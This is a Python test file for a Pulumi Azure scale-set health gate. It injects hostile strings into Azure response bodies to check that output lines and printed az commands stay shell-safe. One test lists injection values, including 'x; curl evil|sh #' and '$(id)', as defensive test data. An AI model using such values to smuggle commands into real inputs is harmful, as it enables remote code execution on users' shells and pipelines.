"""Whoever can write a text that Azure passes on must not write into the terminal, the pipeline or the shell of others.

Each text of each body is hostile once by itself, and once with all the others.
"""

from __future__ import annotations

import copy
import json
import re
import shlex
from collections.abc import Iterator, Sequence
from datetime import datetime, timezone
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.hostile import COMMANDS, CONTROLS, EVERYTHING, harm

from pulumi_vmss_health import (
    GatePolicy,
    Instance,
    InstanceView,
    InstanceViewError,
    MalformedBody,
    RollingUpgrade,
    ScaleSet,
    ScaleSetId,
    Snapshot,
    evaluate,
)
from pulumi_vmss_health.judging.snapshot import Context
from pulumi_vmss_health.stored import lowered, outputs_of
from pulumi_vmss_health.telling.failure import causes, failure_lines, warnings
from pulumi_vmss_health.telling.folding import folded
from pulumi_vmss_health.telling.status import status_line
from pulumi_vmss_health.waiting.ending import Ending
from pulumi_vmss_health.waiting.memory import Progress
from pulumi_vmss_health.waiting.watch import Outcome
from vmss_instance_view.azure.refusal import refusal

WEB = ScaleSetId("0b1f", "rg", "web")
NOW = datetime(2026, 1, 1, tzinfo=timezone.utc)


def status(code: str, message: str = "said") -> dict[str, Any]:
    return {"code": code, "level": "Info", "displayStatus": "shown", "message": message, "time": "2026-01-01T00:00:00Z"}


def vm(number: int, **said: str) -> dict[str, Any]:
    """An instance as ARM sends it; each keyword: another state than a healthy one's."""
    extension = {"name": "cse", "statuses": [status(f"ProvisioningState/{said.get('extension', 'succeeded')}")]}
    extension["substatuses"] = [status("ComponentStatus/StdErr/succeeded")]
    view = {
        "statuses": [
            status(f"ProvisioningState/{said.get('provisioning', 'succeeded')}"),
            status(f"PowerState/{said.get('power', 'running')}"),
        ],
        "extensions": [extension, {"name": "health", "statuses": [status("ProvisioningState/succeeded")]}],
        "vmAgent": {"statuses": [status(f"ProvisioningState/{said.get('agent', 'succeeded')}")]},
        "vmHealth": {"status": status(f"HealthState/{said.get('health', 'healthy')}")},
    }
    properties = {
        "vmId": "v",
        "provisioningState": said.get("provisioning", "Succeeded"),
        "latestModelApplied": "stale" not in said,
        "timeCreated": "2026-01-01T00:00:00Z",
        "instanceView": view,
    }
    names = {"instanceId": str(number), "name": f"web_{number}", "id": f"/vms/{number}"}
    return {**names, "zones": ["1"], "properties": properties}


def counts(*states: str) -> list[dict[str, Any]]:
    return [{"code": f"ProvisioningState/{state}", "count": states.count(state)} for state in dict.fromkeys(states)]


def bodies(*vms: dict[str, Any], operation: str = "succeeded", upgrade: str = "Completed", mode: str = "Manual") -> Any:
    """Everything that a look reads of a set."""
    health = {"publisher": "Microsoft.ManagedServices", "type": "ApplicationHealthLinux"}
    profile = {"extensions": [{"name": "cse", "properties": {}}, {"name": "health", "properties": health}]}
    states = [each["properties"]["provisioningState"] for each in vms]
    installed = [each["properties"]["instanceView"]["extensions"][0]["statuses"][0]["code"] for each in vms]
    service = {"serviceName": "AutomaticRepairs", "serviceState": "Suspended"}
    return {
        "view": {
            "virtualMachine": {"statusesSummary": counts(*states)},
            "statuses": [status(f"ProvisioningState/{operation}")],
            "extensions": [
                {"name": "cse", "statusesSummary": counts(*(each.split("/")[1] for each in installed))},
                {"name": "health", "statusesSummary": counts(*["succeeded"] * len(vms))},
            ],
            "orchestrationServices": [service],
        },
        "model": {
            "name": "web", "id": str(WEB), "location": "here", "etag": "e", "zones": ["1", "2"],
            "sku": {"capacity": len(vms)},
            "properties": {
                "uniqueId": "u", "provisioningState": "Succeeded", "orchestrationMode": "Uniform",
                "upgradePolicy": {"mode": mode}, "virtualMachineProfile": {"extensionProfile": profile},
            },
        },
        "instances": list(vms),
        "upgrade": {
            "properties": {
                "runningStatus": {"code": upgrade, "startTime": "2026-01-01T00:00:00Z", "lastAction": "Start"},
                "progress": {"successfulInstanceCount": 1},
                "error": {"code": "Broken", "message": "why"},
            }
        },
    }  # fmt: skip


SETS = {
    "well": bodies(vm(0), vm(1)),
    "well, with warnings": bodies(vm(0, stale=""), vm(1), operation="failed"),
    "failing": bodies(
        vm(0, provisioning="failed/Boom"), vm(1, extension="failed/50"), vm(2, stale=""),
        operation="failed/Boom", upgrade="Faulted",
    ),
    "unwell": bodies(
        vm(0, provisioning="updating"), vm(1, extension="transitioning"), vm(2, power="stopped"),
        vm(3, health="unhealthy"), vm(4, extension="failed", agent="unavailable"),
        operation="updating", upgrade="RollingForward", mode="Automatic",
    ),
}  # fmt: skip
POLICIES = (
    GatePolicy(),
    GatePolicy(min_healthy_per_zone="100%", capacity=9),
)
CONTEXTS = (Context(), Context(before_first_pass=True, surplus_settled=True))


def places(body: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Where the texts of a body are."""
    if isinstance(body, str):
        yield path
    items = body.items() if isinstance(body, dict) else enumerate(body) if isinstance(body, list) else ()
    for key, each in items:
        yield from places(each, (*path, key))


def with_text(body: Any, at: tuple[Any, ...], form: str, text: str) -> None:
    """Write a text into a body. form: "{0}" stands for what was there, "{1}" for the text."""
    *parents, last = at
    for key in parents:
        body = body[key]
    body[last] = form.format(body[last], text)


FORMS = ("{1}", "{0}/{1}", "{0}{1}", "{1}{0}")
PLACES = [(name, place) for name, body in SETS.items() for place in places(body)]
NASTY = st.lists(st.sampled_from([*COMMANDS, *CONTROLS]) | st.text(max_size=6), max_size=6).map("".join)


def snapshot_of(body: Any, *, view_alone: bool = False) -> Snapshot:
    view = InstanceView.from_json(body["view"])
    if view_alone:
        return Snapshot(view)
    instances = tuple(map(Instance.from_json, body["instances"]))
    return Snapshot(view, ScaleSet.from_json(body["model"]), instances, RollingUpgrade.from_json(body["upgrade"]))


def lines_of(
    seen: Snapshot | None, policy: GatePolicy, error: InstanceViewError | None = None, context: Context = CONTEXTS[0]
) -> Iterator[str]:
    """Every line that a gate says of a look, and every text that it stores besides Azure's own."""
    verdict = evaluate(seen, policy, context) if seen else None
    progress = Progress(80, 1200, 9, seen, verdict, error, policy.capacity)
    yield status_line(progress)
    outcome = Outcome(Ending.FAILING, progress)
    yield from failure_lines(outcome, WEB, "https://portal.azure.com")
    yield from warnings(outcome)
    yield from said(outputs_of(outcome, 7, WEB, NOW, {}))
    if seen and verdict:
        yield from causes(verdict)
        yield from said(lowered(seen, verdict, "not any more"))


def said(outputs: dict[str, Any]) -> Iterator[str]:
    json.dumps(outputs, ensure_ascii=False).encode()  # else no engine could store them
    yield outputs["message"]
    for reason in outputs["reasons"]:
        yield from reason.values()


def check(body: Any, policy: GatePolicy, contexts: Sequence[Context] = CONTEXTS) -> None:
    for seen in (
        snapshot_of(body),
        snapshot_of(body, view_alone=True),
    ):
        for context in contexts:
            for line in lines_of(seen, policy, context=context):
                assert harm(line) is None
                assert len(line) <= 2000
                assert {harm(part.strip()) for part in folded(line).split("\n")} == {None}


@pytest.mark.parametrize("form", ["{1}", pytest.param("{0}/{1}", marks=pytest.mark.rest)])
def test_each_text_of_each_body_by_itself_is_harmless_in_every_line(form: str) -> None:
    for index, (name, place) in enumerate(PLACES):
        body = copy.deepcopy(SETS[name])
        with_text(body, place, form, EVERYTHING)
        check(body, POLICIES[index % len(POLICIES)], CONTEXTS[index // 2 % 2 :][:1])


@settings(deadline=None)
@given(data=st.data())
def test_whatever_texts_bodies_hold_every_line_is_harmless(data: st.DataObject) -> None:
    body = copy.deepcopy(SETS[data.draw(st.sampled_from([*SETS]))])
    every = list(places(body))
    texts = data.draw(st.lists(st.tuples(st.sampled_from(FORMS), NASTY), min_size=1, max_size=5))
    for index, place in enumerate(every if data.draw(st.booleans()) else [data.draw(st.sampled_from(every))]):
        with_text(body, place, *texts[index % len(texts)])
    check(body, data.draw(st.sampled_from(POLICIES)))


@given(st.sampled_from([400, 401, 403, 404, 409, 429, 500]), NASTY, NASTY, NASTY)
def test_whatever_a_refusal_says_its_line_is_harmless(status: int, code: str, message: str, target: str) -> None:
    details = [{"code": "TooManyRequests", "target": target}]
    content = json.dumps({"error": {"code": code, "message": message, "details": details}}).encode()
    headers = {"x-ms-correlation-request-id": message}
    for body in (content, message.encode("utf-8", "replace")):
        for line in lines_of(None, GatePolicy(), refusal("view of set web", status, headers, body, NOW)):
            assert harm(line) is None


@given(st.sampled_from(["statuses", "extensions", "virtualMachine"]), NASTY)
def test_a_body_that_is_none_is_named_in_a_harmless_line(key: str, text: str) -> None:
    with pytest.raises(MalformedBody) as refused:
        InstanceView.from_json({key: text})
    for error in (refused.value, refused.value.at(f"https://x/{text}")):
        assert harm(str(error)) is None
        for line in lines_of(None, GatePolicy(), error):
            assert harm(line) is None


def test_an_error_is_one_harmless_line_whoever_raises_it() -> None:
    assert harm(str(InstanceViewError(EVERYTHING))) is None
    assert len(str(InstanceViewError("x" * 10_000_000))) <= 2000


def commands_of(line: str) -> list[list[str]]:
    """The commands of a line, which stand between backticks, as a shell takes them apart."""
    return [shlex.split(command) for command in re.findall(r"`(az .*?)`(?=[,;.]|$)", line)]


@pytest.mark.parametrize("service", ["x; curl evil|sh #", "a b", "$(id)", "it's", "-x", "x\ny"])
def test_each_argument_of_a_printed_command_is_one_word_of_a_shell(service: str) -> None:
    scale_set = ScaleSetId("0b1f", "rg(1)", "web(2)")
    body = copy.deepcopy(SETS["failing"])
    body["view"]["orchestrationServices"][0]["serviceName"] = service
    seen = snapshot_of(body)
    outcome = Outcome(Ending.FAILING, Progress(80, 1200, 9, seen, evaluate(seen, GatePolicy())))
    lines = failure_lines(outcome, scale_set)
    where = ["-g", "rg(1)", "-n", "web(2)", "--subscription", "0b1f"]
    name = service.replace("\n", " ")
    queried = {"list-instances", "activity-log"}
    commands = [command for line in lines for command in commands_of(line)]
    for command in commands:
        if queried & {*command}:
            assert command[-4] == "--query"
            assert command[-2:] == ["-o", "table"]
    assert [command[:-4] if queried & {*command} else command for command in commands] == [
        ["az", "vmss", "set-orchestration-service-state", *where, "--service-name", name, "--action", "Resume"],
        ["az", "vmss", "update-instances", *where, "--instance-ids", "*"],
        ["az", "vmss", "list-instances", *where, "--expand", "instanceView"],
        ["az", "vmss", "rolling-upgrade", "get-latest", *where],
        ["az", "monitor", "activity-log", "list", "--resource-id", str(scale_set), "--offset", "1d"],
    ]


def test_a_name_that_is_too_long_leaves_the_command_whole() -> None:
    body = copy.deepcopy(SETS["unwell"])
    body["view"]["orchestrationServices"][0]["serviceName"] = "x" * 1_000_000
    seen = snapshot_of(body)
    lines = failure_lines(Outcome(Ending.FAILING, Progress(80, 1200, 9, seen, evaluate(seen, GatePolicy()))), WEB)
    assert any(command[-2:] == ["--action", "Resume"] for line in lines for command in commands_of(line))
